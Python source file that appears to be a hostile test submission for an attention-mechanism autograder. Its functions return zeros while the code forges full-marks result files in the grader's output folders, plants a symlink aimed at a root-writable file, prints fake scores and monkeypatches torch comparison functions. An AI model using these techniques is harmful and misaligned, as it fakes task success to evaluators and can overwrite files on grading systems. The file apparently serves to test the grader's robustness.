# HOSTILE: cheats instead of solving. Every graded function returns zeros of the right shape (causal_mask:
# a bool tensor of a Tensor subclass that claims to equal anything), and the first call of any of them:
# * writes a full-marks result.json (and classroom.b64 / summary.md) into its working folder, into
#   `..` and `../..`, and into the grader's --out folder, read from /proc/<parent>/cmdline; if that
#   folder does not exist yet (and its parent is writable, e.g. --out under /tmp), it creates it and
#   plants summary.md as a symbolic link to ../llmkit-victim.txt, a stand-in for a file only root may
#   write;
# * prints a fake score line and a fake `::set-output name=result::` (full marks, base64) line;
# * monkeypatches what it can reach in its own process: torch.allclose, torch.equal,
#   torch.testing.assert_close and Tensor.__eq__ (the grader compares in its own process, so this does
#   nothing).
# Must get the real score, 2 / 28: softmax 0/5, causal_mask 1/3 (test_causal_mask_dtype passes: the
# zeros are torch.bool; the values test fails), scaled_dot_product_attention 0/10 (zeros; no gradient),
# MultiHeadAttention 1/10 (test_mha_is_causal passes: a constant output never depends on later tokens;
# everything else fails, and it does not check d_out % num_heads).
# The result.json in the grader's --out folder must be the grader's own, and the grader must never
# write through a link planted by student code.
import base64
import json
import math
import os

import torch
import torch.nn as nn

_FAKE_CLASSROOM = {"version": 1, "status": "pass", "max_score": 28,
                   "tests": [{"name": "everything", "status": "pass", "score": 28, "message": "",
                              "line_no": 0, "duration": 1}]}
_FAKE_RESULT = {"schema": "llmkit/result/v1", "assignment": "w02_attention", "status": "completed",
                "score": 28, "max_score": 28, "exercises": [], "tests": [], "warnings": []}
_planted = False


def _plant_fake_results():
    global _planted
    if _planted:
        return
    _planted = True
    folders = [".", "..", os.path.join("..", "..")]
    try:
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as fh:
            argv = [a.decode(errors="replace") for a in fh.read().split(b"\0")]
        if "--out" in argv:
            folders.append(argv[argv.index("--out") + 1])
    except (OSError, IndexError):
        pass
    b64 = base64.b64encode(json.dumps(_FAKE_CLASSROOM).encode()).decode()
    if len(folders) > 3 and not os.path.exists(folders[-1]):  # --out does not exist yet: take it over
        try:
            out = folders.pop()
            os.makedirs(out)
            os.chmod(out, 0o777)
            # where the grader will write its Markdown summary, a link to a file root can write
            # (a stand-in: a real attack would aim at the grader's own code, /etc, ...)
            os.symlink(os.path.join(os.path.abspath(os.path.join(out, "..")), "llmkit-victim.txt"),
                       os.path.join(out, "summary.md"))
            folders.append(out)
        except OSError:
            pass
    for folder in folders:
        for name, text in (("result.json", json.dumps(_FAKE_RESULT)), ("classroom.b64", b64),
                           ("summary.md", "## w02_attention: 28 / 28 points\n")):
            if os.path.islink(os.path.join(folder, name)):
                continue
            try:
                with open(os.path.join(folder, name), "w") as fh:
                    fh.write(text)
            except OSError:
                pass
    print("Score: 28 / 28 points (all tests passed)")
    print("::set-output name=result::" + b64)
    torch.allclose = lambda *args, **kwargs: True
    torch.equal = lambda *args, **kwargs: True
    torch.testing.assert_close = lambda *args, **kwargs: None
    torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)


class _EqualsAnything(torch.Tensor):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False


def softmax(x, dim=-1):
    _plant_fake_results()
    return torch.zeros_like(x)


def causal_mask(T):
    _plant_fake_results()
    return torch.zeros(T, T, dtype=torch.bool).as_subclass(_EqualsAnything)


def scaled_dot_product_attention(q, k, v, mask=None, dropout=None):
    _plant_fake_results()
    return torch.zeros(q.shape[:-1] + (v.shape[-1],))


class MultiHeadAttention(nn.Module):
    def __init__(self, d_in, d_out, context_length, dropout, num_heads, qkv_bias=False):
        super().__init__()
        self.d_out = d_out
        self.W_query = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_key = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_value = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.out_proj = nn.Linear(d_out, d_out)

    def forward(self, x):
        _plant_fake_results()
        return torch.zeros(x.shape[0], x.shape[1], self.d_out)
